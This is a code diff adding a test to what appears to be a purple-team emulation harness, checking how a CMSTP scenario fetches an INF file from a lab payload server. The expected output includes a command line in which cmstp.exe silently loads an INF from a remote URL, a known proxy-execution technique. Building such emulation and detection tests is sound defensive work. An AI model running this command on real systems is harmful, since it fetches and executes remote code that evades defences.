@@ -180,3 +180,23 @@ test('#17 a cmstp run without /s proves only its start: cmstp waits for its conf
     `C:\\Windows\\System32\\cmstp.exe /au C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.ini`,
   );
 });
+
+test('#17 an INF by URL: cmstp gets the URL the payload server serves the INF at, the INF is staged too, and only the start is proven', (t) => {
+  const [byUrl] = loadScenariosOrThrow([join(builtinScenariosDir(), 'cmstp-inf-by-url.yaml')]);
+  if (!byUrl) throw new Error('INF-by-URL scenario missing');
+
+  const rendered = renderEmulation(byUrl, { marker, payloadBaseUrl: 'http://payload.lab.test:8080' });
+
+  const url = `http://payload.lab.test:8080/${marker}/${marker}.inf`;
+  t.like(rendered.servedInf, { host: 'payload.lab.test', path: `/${marker}/${marker}.inf`, url });
+  t.is(rendered.servedInf?.content, rendered.payload?.content);
+  t.is(rendered.servedInf?.sha256, rendered.payload?.sha256);
+  t.is(rendered.payload?.remotePath, `C:\\ProgramData\\purple-harness\\runs\\${marker}\\${marker}.inf`);
+  t.is(rendered.cmstpCommandLine, `C:\\Windows\\System32\\cmstp.exe /ni /s ${url}`);
+  t.is(rendered.payloadEvidence, 'started');
+  t.is(rendered.scriptlet, null);
+  t.throws(() => renderEmulation(byUrl, { marker }), {
+    instanceOf: HarnessError,
+    message: /no payload server/,
+  });
+});
